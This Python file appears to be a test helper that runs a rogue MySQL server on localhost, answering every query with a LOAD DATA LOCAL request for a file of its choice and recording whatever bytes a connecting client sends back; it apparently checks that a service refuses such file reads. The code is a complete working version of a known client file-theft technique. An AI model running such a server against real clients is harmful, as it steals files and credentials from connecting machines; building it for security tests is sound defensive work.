"""A rogue MySQL server: it answers every query with a request for a local file of its own choice
(the LOAD DATA LOCAL packet, 0xFB + file name) and records every byte a client sends back. What a
client's connection settings may point a worker at; speaks just enough of the protocol for pymysql."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

from pymysql.constants import CLIENT

_CAPS = (
    CLIENT.LONG_PASSWORD
    | CLIENT.LONG_FLAG
    | CLIENT.CONNECT_WITH_DB
    | CLIENT.PROTOCOL_41
    | CLIENT.TRANSACTIONS
    | CLIENT.SECURE_CONNECTION
    | CLIENT.LOCAL_FILES
    | CLIENT.PLUGIN_AUTH
)
_OK = b"\x00\x00\x00" + struct.pack("<HH", 2, 0)  # autocommit on, no warnings


class RogueMySQL:
    def __init__(self, wanted: str) -> None:
        self.wanted = wanted.encode()
        self.received = bytearray()  # the content of every file a client sent
        self.requests = 0  # file requests made
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self.port = self._listener.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=10)
        self._listener.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
            except TimeoutError:
                continue
            threading.Thread(target=self._session, args=(conn,), daemon=True).start()

    def _session(self, conn: socket.socket) -> None:
        conn.settimeout(30)
        with conn, contextlib.suppress(OSError, ConnectionError):
            salt = b"abcdefgh" + b"ijklmnopqrst"
            greeting = (
                b"\x0a5.7.99-rogue\x00"
                + struct.pack("<I", 7)
                + salt[:8]
                + b"\x00"
                + struct.pack("<H", _CAPS & 0xFFFF)
                + b"\x21"
                + struct.pack("<H", 2)
                + struct.pack("<H", _CAPS >> 16)
                + bytes([len(salt) + 1])
                + b"\x00" * 10
                + salt[8:]
                + b"\x00"
                + b"mysql_native_password\x00"
            )
            _send(conn, 0, greeting)
            _recv(conn)  # the client's handshake response: any password will do
            _send(conn, 2, _OK)
            while True:
                _, command = _recv(conn)
                if not command or command[0] == 0x01:  # COM_QUIT
                    return
                if command[0] != 0x03 or command.startswith((b"\x03SET NAMES", b"\x03SET AUTOCOMMIT")):
                    _send(conn, 1, _OK)  # pymysql's own connect: let it finish
                    continue
                self.requests += 1
                _send(conn, 1, b"\xfb" + self.wanted)
                while True:
                    seq, data = _recv(conn)
                    if not data:
                        break
                    self.received += data
                _send(conn, seq + 1, _OK)


def _send(conn: socket.socket, seq: int, payload: bytes) -> None:
    conn.sendall(struct.pack("<I", len(payload))[:3] + bytes([seq % 256]) + payload)


def _recv(conn: socket.socket) -> tuple[int, bytes]:
    header = _exactly(conn, 4)
    length = int.from_bytes(header[:3], "little")
    return header[3], _exactly(conn, length)


def _exactly(conn: socket.socket, size: int) -> bytes:
    data = bytearray()
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            raise ConnectionError("client closed")
        data += chunk
    return bytes(data)
